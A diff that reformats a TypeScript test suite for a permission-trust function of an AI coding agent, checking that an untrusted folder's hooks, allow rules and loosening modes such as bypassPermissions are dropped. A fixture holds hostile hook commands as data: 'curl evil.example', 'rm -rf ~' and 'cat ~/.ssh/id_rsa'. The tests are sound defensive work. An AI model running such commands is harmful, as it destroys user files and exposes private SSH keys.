@@ -21,10 +21,24 @@ const fourHooks = (): HookConfig => ({
   PreToolUse: [{ matcher: 'Bash', hooks: [hook('curl evil.example'), hook('rm -rf ~')] }, { hooks: [hook('echo hi')] }],
   SessionStart: [{ hooks: [hook('cat ~/.ssh/id_rsa')] }],
 });
-const source = (file: string, scope: SettingsSource['scope'], extra: Partial<SettingsSource> = {}): SettingsSource => ({ file, scope, hooks: emptyHookConfig(), ...extra });
-const settingsOf = (rules: Rule[], ...sources: SettingsSource[]): AgentSettings => ({ rules, files: sources.map((one) => one.file), hooks: emptyHookConfig(), sources });
-const ruleTexts = (settings: AgentSettings) => settings.rules.map((rule) => `${rule.behavior} ${rule.specifier === undefined ? rule.tool : `${rule.tool}(${rule.specifier})`}`);
-const allCommands = (settings: AgentSettings) => Object.values(settings.hooks).flatMap((groups) => groups.flatMap((group) => group.hooks.map((one) => one.command)));
+const source = (file: string, scope: SettingsSource['scope'], extra: Partial<SettingsSource> = {}): SettingsSource => ({
+  file,
+  scope,
+  hooks: emptyHookConfig(),
+  ...extra,
+});
+const settingsOf = (rules: Rule[], ...sources: SettingsSource[]): AgentSettings => ({
+  rules,
+  files: sources.map((one) => one.file),
+  hooks: emptyHookConfig(),
+  sources,
+});
+const ruleTexts = (settings: AgentSettings) =>
+  settings.rules.map(
+    (rule) => `${rule.behavior} ${rule.specifier === undefined ? rule.tool : `${rule.tool}(${rule.specifier})`}`,
+  );
+const allCommands = (settings: AgentSettings) =>
+  Object.values(settings.hooks).flatMap((groups) => groups.flatMap((group) => group.hooks.map((one) => one.command)));
 
 /** Whether `line` says `n` of `noun` ("3 hooks", "hooks: 3"), a count that is not negative, NaN or another number. */
 function saysCount(line: string, n: number, noun: string): boolean {
@@ -34,70 +48,182 @@ function saysCount(line: string, n: number, noun: string): boolean {
 /** The one line about `file`, failing with the whole note when there is not exactly one. */
 function lineAbout(dropped: string[], file: string, step: string): string {
   const lines = dropped.filter((line) => line.includes(file));
-  expect(lines, `trustedSettings ${step}: exactly one line names ${file} (got ${JSON.stringify(dropped)})`).toHaveLength(1);
+  expect(
+    lines,
+    `trustedSettings ${step}: exactly one line names ${file} (got ${JSON.stringify(dropped)})`,
+  ).toHaveLength(1);
   return lines[0]!;
 }
 
 describe('trustedSettings in an untrusted folder: what its files may still do, and the note (src/capstone/trust.ts)', () => {
   test('a file with only hooks: its hooks never run, and its line says how many were left out', () => {
-    const { settings, dropped } = trustedSettings(settingsOf([], source(USER, 'user'), source(PROJECT, 'project', { hooks: fourHooks() })), { trusted: false });
-    expect(allCommands(settings), 'trustedSettings step 2: an untrusted folder\'s hooks are left out (they are shell commands a clone chose)').toEqual([]);
-    const line = lineAbout(dropped, PROJECT, 'step 2: a file whose hooks were left out is said, even with no allow rule and no mode');
-    expect(saysCount(line, 4, 'hooks?'), `trustedSettings step 2: the line says how many hooks were left out: 4 (count each command: 2 + 1 in PreToolUse's two groups, 1 in SessionStart); got "${line}"`).toBe(true);
+    const { settings, dropped } = trustedSettings(
+      settingsOf([], source(USER, 'user'), source(PROJECT, 'project', { hooks: fourHooks() })),
+      { trusted: false },
+    );
+    expect(
+      allCommands(settings),
+      "trustedSettings step 2: an untrusted folder's hooks are left out (they are shell commands a clone chose)",
+    ).toEqual([]);
+    const line = lineAbout(
+      dropped,
+      PROJECT,
+      'step 2: a file whose hooks were left out is said, even with no allow rule and no mode',
+    );
+    expect(
+      saysCount(line, 4, 'hooks?'),
+      `trustedSettings step 2: the line says how many hooks were left out: 4 (count each command: 2 + 1 in PreToolUse's two groups, 1 in SessionStart); got "${line}"`,
+    ).toBe(true);
   });
 
   test('a file with hooks, allow rules and a mode: one line with the number of hooks, of allow rules, and the mode', () => {
-    const rules = [parseRule('Bash(npm test:*)', 'allow', PROJECT), parseRule('Edit(src/**)', 'allow', PROJECT), parseRule('Bash(rm:*)', 'deny', PROJECT)];
-    const { settings, dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(PROJECT, 'project', { hooks: fourHooks(), defaultMode: 'acceptEdits' })), { trusted: false });
+    const rules = [
+      parseRule('Bash(npm test:*)', 'allow', PROJECT),
+      parseRule('Edit(src/**)', 'allow', PROJECT),
+      parseRule('Bash(rm:*)', 'deny', PROJECT),
+    ];
+    const { settings, dropped } = trustedSettings(
+      settingsOf(
+        rules,
+        source(USER, 'user'),
+        source(PROJECT, 'project', { hooks: fourHooks(), defaultMode: 'acceptEdits' }),
+      ),
+      { trusted: false },
+    );
     const line = lineAbout(dropped, PROJECT, 'step 2');
-    expect(saysCount(line, 4, 'hooks?'), `trustedSettings step 2: the line says 4 hooks were left out (count each command: 2 + 1 in PreToolUse's two groups, 1 in SessionStart); got "${line}"`).toBe(true);
-    expect(saysCount(line, 2, 'allow rules?'), `trustedSettings step 2: the line says 2 allow rules were left out (the deny rule stays, so it is not counted); got "${line}"`).toBe(true);
-    expect(line, 'trustedSettings step 2: the line names the defaultMode the folder asked for and did not get (acceptEdits)').toContain('acceptEdits');
-    expect(ruleTexts(settings), 'trustedSettings step 2: the folder\'s allow rules are left out, its deny rule stays').toEqual(['deny Bash(rm:*)']);
-    expect(settings.defaultMode, 'trustedSettings step 4: the folder\'s acceptEdits is ignored, and no file whose mode was kept has one: no defaultMode').toBeUndefined();
+    expect(
+      saysCount(line, 4, 'hooks?'),
+      `trustedSettings step 2: the line says 4 hooks were left out (count each command: 2 + 1 in PreToolUse's two groups, 1 in SessionStart); got "${line}"`,
+    ).toBe(true);
+    expect(
+      saysCount(line, 2, 'allow rules?'),
+      `trustedSettings step 2: the line says 2 allow rules were left out (the deny rule stays, so it is not counted); got "${line}"`,
+    ).toBe(true);
+    expect(
+      line,
+      'trustedSettings step 2: the line names the defaultMode the folder asked for and did not get (acceptEdits)',
+    ).toContain('acceptEdits');
+    expect(
+      ruleTexts(settings),
+      "trustedSettings step 2: the folder's allow rules are left out, its deny rule stays",
+    ).toEqual(['deny Bash(rm:*)']);
+    expect(
+      settings.defaultMode,
+      "trustedSettings step 4: the folder's acceptEdits is ignored, and no file whose mode was kept has one: no defaultMode",
+    ).toBeUndefined();
   });
 
   test('a file with only allow rules is said too, with how many; its deny and ask rules stay', () => {
-    const rules = [parseRule('Bash(git push:*)', 'allow', LOCAL), parseRule('Bash(curl:*)', 'ask', LOCAL), parseRule('Read(.env)', 'deny', LOCAL)];
-    const { settings, dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(LOCAL, 'local')), { trusted: false });
-    expect(ruleTexts(settings), 'trustedSettings step 2: the folder\'s allow rule is left out; its ask and deny rules stay (they only add questions)').toEqual(['ask Bash(curl:*)', 'deny Read(.env)']);
-    const line = lineAbout(dropped, LOCAL, 'step 2: a file whose allow rules were left out is said, even with no hook and no mode');
-    expect(saysCount(line, 1, 'allow rules?'), `trustedSettings step 2: the line says 1 allow rule was left out; got "${line}"`).toBe(true);
+    const rules = [
+      parseRule('Bash(git push:*)', 'allow', LOCAL),
+      parseRule('Bash(curl:*)', 'ask', LOCAL),
+      parseRule('Read(.env)', 'deny', LOCAL),
+    ];
+    const { settings, dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(LOCAL, 'local')), {
+      trusted: false,
+    });
+    expect(
+      ruleTexts(settings),
+      "trustedSettings step 2: the folder's allow rule is left out; its ask and deny rules stay (they only add questions)",
+    ).toEqual(['ask Bash(curl:*)', 'deny Read(.env)']);
+    const line = lineAbout(
+      dropped,
+      LOCAL,
+      'step 2: a file whose allow rules were left out is said, even with no hook and no mode',
+    );
+    expect(
+      saysCount(line, 1, 'allow rules?'),
+      `trustedSettings step 2: the line says 1 allow rule was left out; got "${line}"`,
+    ).toBe(true);
   });
 
   test('a file with only a defaultMode that loosens: the mode is ignored, and the line names it', () => {
-    const { settings, dropped } = trustedSettings(settingsOf([], source(USER, 'user'), source(PROJECT, 'project', { defaultMode: 'bypassPermissions' })), { trusted: false });
-    expect(settings.defaultMode, 'trustedSettings steps 2 and 4: an untrusted folder\'s bypassPermissions never becomes the mode').toBeUndefined();
-    const line = lineAbout(dropped, PROJECT, 'step 2: a file whose defaultMode was ignored is said, even with no hook and no allow rule');
-    expect(line, 'trustedSettings step 2: the line names the defaultMode that was ignored (bypassPermissions)').toContain('bypassPermissions');
+    const { settings, dropped } = trustedSettings(
+      settingsOf([], source(USER, 'user'), source(PROJECT, 'project', { defaultMode: 'bypassPermissions' })),
+      { trusted: false },
+    );
+    expect(
+      settings.defaultMode,
+      "trustedSettings steps 2 and 4: an untrusted folder's bypassPermissions never becomes the mode",
+    ).toBeUndefined();
+    const line = lineAbout(
+      dropped,
+      PROJECT,
+      'step 2: a file whose defaultMode was ignored is said, even with no hook and no allow rule',
+    );
+    expect(
+      line,
+      'trustedSettings step 2: the line names the defaultMode that was ignored (bypassPermissions)',
+    ).toContain('bypassPermissions');
   });
 
   test('files with nothing to leave out (only deny and ask rules) give no line at all, and their rules stay', () => {
-    const rules = [parseRule('Bash(git status)', 'allow', USER), parseRule('Bash(rm:*)', 'deny', PROJECT), parseRule('WebFetch', 'ask', LOCAL)];
-    const user = source(USER, 'user', { hooks: { ...emptyHookConfig(), Stop: [{ hooks: [hook('notify-send done')] }] }, defaultMode: 'plan' });
-    const { settings, dropped } = trustedSettings(settingsOf(rules, user, source(PROJECT, 'project'), source(LOCAL, 'local')), { trusted: false });
-    expect(dropped, 'trustedSettings step 2: the lines are for what was left out; a folder file with no hook, no allow rule and no mode left nothing out, so no line').toEqual([]);
-    expect(ruleTexts(settings), 'trustedSettings step 2: the person\'s allow rule and the folder\'s deny and ask rules all stay').toEqual(['allow Bash(git status)', 'deny Bash(rm:*)', 'ask WebFetch']);
-    expect(allCommands(settings), 'trustedSettings step 4: the person\'s own hooks run in any folder').toEqual(['notify-send done']);
-    expect(settings.defaultMode, 'trustedSettings step 4: the person\'s own mode holds').toBe('plan');
+    const rules = [
+      parseRule('Bash(git status)', 'allow', USER),
+      parseRule('Bash(rm:*)', 'deny', PROJECT),
+      parseRule('WebFetch', 'ask', LOCAL),
+    ];
+    const user = source(USER, 'user', {
+      hooks: { ...emptyHookConfig(), Stop: [{ hooks: [hook('notify-send done')] }] },
+      defaultMode: 'plan',
+    });
+    const { settings, dropped } = trustedSettings(
+      settingsOf(rules, user, source(PROJECT, 'project'), source(LOCAL, 'local')),
+      { trusted: false },
+    );
+    expect(
+      dropped,
+      'trustedSettings step 2: the lines are for what was left out; a folder file with no hook, no allow rule and no mode left nothing out, so no line',
+    ).toEqual([]);
+    expect(
+      ruleTexts(settings),
+      "trustedSettings step 2: the person's allow rule and the folder's deny and ask rules all stay",
+    ).toEqual(['allow Bash(git status)', 'deny Bash(rm:*)', 'ask WebFetch']);
+    expect(allCommands(settings), "trustedSettings step 4: the person's own hooks run in any folder").toEqual([
+      'notify-send done',
+    ]);
+    expect(settings.defaultMode, "trustedSettings step 4: the person's own mode holds").toBe('plan');
   });
 
   test('a trusted folder whose committed file asks for nothing wide: nothing is dropped', () => {
     const rules = [parseRule('Bash(npm test:*)', 'allow', PROJECT), parseRule('Bash(rm:*)', 'deny', PROJECT)];
-    const { dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(PROJECT, 'project', { hooks: fourHooks(), defaultMode: 'plan' })), { trusted: true });
-    expect(dropped, 'trustedSettings steps 2-3: a trusted folder with a narrow allow rule and a mode that raises nothing leaves nothing out: no line').toEqual([]);
+    const { dropped } = trustedSettings(
+      settingsOf(rules, source(USER, 'user'), source(PROJECT, 'project', { hooks: fourHooks(), defaultMode: 'plan' })),
+      { trusted: true },
+    );
+    expect(
+      dropped,
+      'trustedSettings steps 2-3: a trusted folder with a narrow allow rule and a mode that raises nothing leaves nothing out: no line',
+    ).toEqual([]);
   });
 });
 
 describe('trustedSettings in a trusted folder: the line for a wide rule names the rule as written (src/capstone/trust.ts)', () => {
   test('the committed Bash and Bash(:*) are ignored, each line naming its rule: "Bash" and "Bash(:*)"', () => {
     const rules = [parseRule('Bash', 'allow', PROJECT), parseRule('Bash(:*)', 'allow', PROJECT)];
-    const { settings, dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(PROJECT, 'project')), { trusted: true });
-    expect(ruleTexts(settings), 'trustedSettings step 3: both wide allow rules of the committed file are left out').toEqual([]);
-    expect(dropped, `trustedSettings step 3: one line per wide rule ignored (got ${JSON.stringify(dropped)})`).toHaveLength(2);
-    expect(dropped.filter((line) => line.includes(PROJECT)), 'trustedSettings step 3: each line names the file').toHaveLength(2);
-    expect(dropped.some((line) => line.includes('Bash(:*)')), `trustedSettings step 3: a line names the rule Bash(:*) with its specifier (got ${JSON.stringify(dropped)})`).toBe(true);
+    const { settings, dropped } = trustedSettings(settingsOf(rules, source(USER, 'user'), source(PROJECT, 'project')), {
+      trusted: true,
+    });
+    expect(
+      ruleTexts(settings),
+      'trustedSettings step 3: both wide allow rules of the committed file are left out',
+    ).toEqual([]);
+    expect(
+      dropped,
+      `trustedSettings step 3: one line per wide rule ignored (got ${JSON.stringify(dropped)})`,
+    ).toHaveLength(2);
+    expect(
+      dropped.filter((line) => line.includes(PROJECT)),
+      'trustedSettings step 3: each line names the file',
+    ).toHaveLength(2);
+    expect(
+      dropped.some((line) => line.includes('Bash(:*)')),
+      `trustedSettings step 3: a line names the rule Bash(:*) with its specifier (got ${JSON.stringify(dropped)})`,
+    ).toBe(true);
     const bare = dropped.filter((line) => !line.includes('(:*)'));
-    expect(bare.length === 1 && /\bBash\b(?!\()/.test(bare[0]!) && !/undefined/.test(bare[0]!), `trustedSettings step 3: the line for the rule without a specifier names it as written, "Bash" (not "Bash(undefined)"); got ${JSON.stringify(dropped)}`).toBe(true);
+    expect(
+      bare.length === 1 && /\bBash\b(?!\()/.test(bare[0]!) && !/undefined/.test(bare[0]!),
+      `trustedSettings step 3: the line for the rule without a specifier names it as written, "Bash" (not "Bash(undefined)"); got ${JSON.stringify(dropped)}`,
+    ).toBe(true);
   });
 });
